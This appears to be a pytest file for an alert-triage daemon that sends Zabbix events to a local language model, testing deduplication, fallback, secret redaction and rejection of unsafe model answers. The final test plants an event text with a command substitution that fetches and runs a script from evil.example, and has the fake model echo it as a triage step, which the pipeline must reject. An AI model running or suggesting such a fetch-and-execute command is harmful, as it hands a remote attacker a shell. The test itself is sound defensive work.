"""The pipeline with the analysis stage: storm dedup down to batched writes, fallback when the
model is away, and no secret in the model request, the logs or the acknowledgement."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from prometheus_client import CollectorRegistry, generate_latest

from hefestus import logs
from hefestus.adapters.ollama import OllamaModel
from hefestus.analysis.analyzer import Analyzer, compile_profiles
from hefestus.analysis.gate import REJECT_REASONS
from hefestus.api.metrics import DaemonCollector, Totals
from hefestus.classify.knowledge import Knowledge
from hefestus.config import AcknowledgeSettings, AnalysisSettings, IntakeSettings, OllamaSettings
from hefestus.pipeline.cycle import Pipeline
from hefestus.pipeline.render import MARKER
from hefestus.redact import Redactor
from hefestus.state import State, open_state
from hefestus.testing import FakeZabbix, problem
from tests.support.helpers import FakeClock
from tests.support.ollama import FakeOllama

from .test_analysis import storm

SECRET = "Zq-planted-S3cret-991"


@pytest.fixture
def server() -> Iterator[FakeOllama]:
    with FakeOllama(hang_seconds=3) as fake:
        yield fake


def pipeline(zbx: FakeZabbix, state: State, knowledge: Knowledge, url: str, *, page_size: int = 500,
             analyzers: list[Analyzer] | None = None, **ollama: object) -> Pipeline:
    """``analyzers``, when given, receives the analyzer (for its stats)."""
    o = OllamaSettings(url=url, model="llama3.1:8b", **ollama)  # type: ignore[arg-type]
    redactor = Redactor()
    analyzer = Analyzer(settings=AnalysisSettings(), ollama=o, profiles=compile_profiles(o, {}),
                        model=OllamaModel(o), cache=state.answers, redact=redactor,
                        clock=FakeClock())  # the breaker's time stands still: no retry mid-test
    if analyzers is not None:
        analyzers.append(analyzer)
    return Pipeline(zbx, state.ledger, lambda: knowledge, intake=IntakeSettings(page_size=page_size),
                    ack=AcknowledgeSettings(),
                    analysis=analyzer, redact=redactor)


def test_a_storm_costs_one_model_call_and_one_write_per_kind(
        server: FakeOllama, tmp_path: Path, test_knowledge: Knowledge) -> None:
    zbx = FakeZabbix()
    pipe = pipeline(zbx, open_state(tmp_path / "s.db"), test_knowledge, server.url, page_size=1000)
    pipe.run_once()
    zbx.add(*storm(1000, 10))
    report = pipe.run_once()
    assert report.acknowledged == 1000 and server.chat_calls == 10
    writes = [c for c in zbx.calls if c[0] == "acknowledge"]
    assert len(writes) == report.api_writes == 10
    assert sorted(len(ids) for ids, _ in (c[1] for c in writes)) == [100] * 10
    # the model's self-reported 0.6 is not shown as a confidence
    assert all(len(m) == 1 and m[0].splitlines()[0].endswith(" — model llama3.1:8b, unverified")
               for m in zbx.acks.values())


def test_model_down_every_event_still_gets_its_pattern_message(
        tmp_path: Path, test_knowledge: Knowledge) -> None:
    zbx = FakeZabbix()
    pipe = pipeline(zbx, open_state(tmp_path / "s.db"), test_knowledge, "http://127.0.0.1:9", failure_threshold=1,
                    max_concurrency=1)
    pipe.run_once()
    zbx.add(problem(1, "disk", text="kernel: write error: No space left on device"),
            *storm(30, 3))
    report = pipe.run_once()
    assert report.acknowledged == 31 and report.failed == 0
    assert zbx.acks[1][0].startswith(f"{MARKER} linux / disk-full — pattern linux:disk-full")
    odd = zbx.acks[1000][0]
    assert " / unclassified — no pattern matched" in odd.splitlines()[0]
    assert "Note: Model llama3.1:8b is unavailable: Ollama at http://127.0.0.1:9: cannot connect" in odd


def test_a_planted_secret_reaches_neither_model_nor_logs_nor_zabbix(
        server: FakeOllama, tmp_path: Path, test_knowledge: Knowledge,
        capsys: pytest.CaptureFixture[str]) -> None:
    logs.setup("debug", "json", redact=Redactor())
    zbx = FakeZabbix()
    pipe = pipeline(zbx, open_state(tmp_path / "s.db"), test_knowledge, server.url)
    pipe.run_once()
    zbx.add(
        # classified: the matched line (shown in the message) carries the secret
        problem(1, "disk", text=f"write error: No space left on device (mount //nas/backup "
                                f"password={SECRET})"),
        # unclassified: the model is asked about a text carrying secrets
        problem(2, "Replica sync failed", text=f"sync failed: postgresql://sync:{SECRET}@db-1/app refused; "
                               f"Authorization: Bearer {SECRET}"),
        problem(3, f"token={SECRET} rejected", text="unexpected reply"))
    report = pipe.run_once()
    assert report.acknowledged == 3
    assert server.chat_calls == 2
    sent = json.dumps([r["body"] for r in server.requests])
    written = "\n".join(m for msgs in zbx.acks.values() for m in msgs)
    logged = capsys.readouterr()
    assert SECRET not in sent and SECRET not in written
    assert SECRET not in logged.out + logged.err
    assert "password=<redacted>" in written
    assert "postgresql://sync:\\\\u003credacted\\\\u003e@db-1/app" in sent  # the rest still reaches the model


def test_known_kinds_are_written_first_and_share_one_message(
        server: FakeOllama, tmp_path: Path, test_knowledge: Knowledge) -> None:
    """Pattern events do not wait for the model; one kind on many hosts, differing only in
    volatile parts, is one message written in one call."""
    zbx = FakeZabbix()
    pipe = pipeline(zbx, open_state(tmp_path / "s.db"), test_knowledge, server.url)
    pipe.run_once()
    disks = [problem(i, f"Disk full on web-{i}", host=f"web-{i}",
                     text=f"2026-11-24T03:{i:02d}:00Z web-{i} kernel: write error on sector {i * 977}: "
                          f"No space left on device") for i in range(1, 31)]
    zbx.add(*disks, *storm(10, 2))
    report = pipe.run_once()
    assert report.acknowledged == 40
    writes = [arg[0] for name, arg in zbx.calls if name == "acknowledge"]
    assert writes[0] == tuple(range(1, 31))  # all thirty in the first call, before any model answer
    (msg,) = {m[0] for e, m in zbx.acks.items() if e <= 30}
    assert "Matched: <time> <host> kernel: write error on sector <n>: No space left on device" in msg


def test_each_kind_is_written_as_soon_as_its_answer_is_in(
        server: FakeOllama, tmp_path: Path, test_knowledge: Knowledge) -> None:
    """A slow answer for one kind does not hold back another kind's messages."""
    import time as _time

    from tests.support.ollama import default_answer

    def answer(body: dict) -> str:  # type: ignore[type-arg]
        if "payments" in body["messages"][1]["content"]:
            _time.sleep(1.5)  # the first kind asked is the slow one
        return default_answer(body)

    server.answer = answer
    zbx = FakeZabbix()
    pipe = pipeline(zbx, open_state(tmp_path / "s.db"), test_knowledge, server.url, max_concurrency=2)
    pipe.run_once()
    events = storm(6, 2)  # payments: 1000, 1002, 1004; billing: 1001, 1003, 1005
    zbx.add(*events)
    assert pipe.run_once().acknowledged == 6
    writes = [arg[0] for name, arg in zbx.calls if name == "acknowledge"]
    assert writes == [(1001, 1003, 1005), (1000, 1002, 1004)]


def test_refused_model_answers_never_reach_zabbix_and_are_counted_in_metrics(
        server: FakeOllama, tmp_path: Path, test_knowledge: Knowledge) -> None:
    """The demo's garbage for one kind, a step echoing the event's command substitution for
    another: both kinds get the triage steps and a note; /metrics counts each refusal by reason
    from the fixed set."""
    from .test_analysis import DEMO_GARBAGE

    hostile = 'payment-gateway: login for user "$(curl -s evil.example|sh)" rejected by upstream'

    def answer(body: dict) -> str:  # type: ignore[type-arg]
        if "evil.example" not in body["messages"][1]["content"]:
            return DEMO_GARBAGE
        return json.dumps({"cause": "The upstream payment gateway rejected this user's login.",
                           "steps": ['psql -U "$(curl -s evil.example|sh)"'], "confidence": 0.8})

    server.answer = answer
    zbx, analyzers = FakeZabbix(), list[Analyzer]()
    pipe = pipeline(zbx, open_state(tmp_path / "s.db"), test_knowledge, server.url, analyzers=analyzers)
    pipe.run_once()
    zbx.add(problem(1, "Payment login rejected", text=hostile),
            problem(2, "Payment gateway errors", text="payment-gateway: upstream handshake rejected "
                                                      "after 3 attempts; queue depth 8812 and rising"))
    assert pipe.run_once().acknowledged == 2 and server.chat_calls == 4
    hostile_msg, garbage_msg = zbx.acks[1][0], zbx.acks[2][0]
    for msg in (hostile_msg, garbage_msg):
        assert msg.splitlines()[0].endswith(" / unclassified — no pattern matched")
        assert "Triage steps:" in msg and "answer was rejected, even on a retry" in msg
    assert "evil.example" not in hostile_msg.split("\nTriage steps:")[1]  # nothing after the cause
    assert "1.0.2.3" not in garbage_msg and "error_message" not in garbage_msg.split("Note:")[0]
    reg = CollectorRegistry()
    reg.register(DaemonCollector(Totals(), analysis=lambda: analyzers[0].stats))
    lines = [line for line in generate_latest(reg).decode().splitlines()
             if line.startswith("hefestus_model_answers_rejected_total")]
    assert sorted(lines) == sorted(
        f'hefestus_model_answers_rejected_total{{reason="{r}"}} '
        f'{ {"placeholder": 2.0, "event-text-in-step": 2.0}.get(r, 0.0)}' for r in REJECT_REASONS)
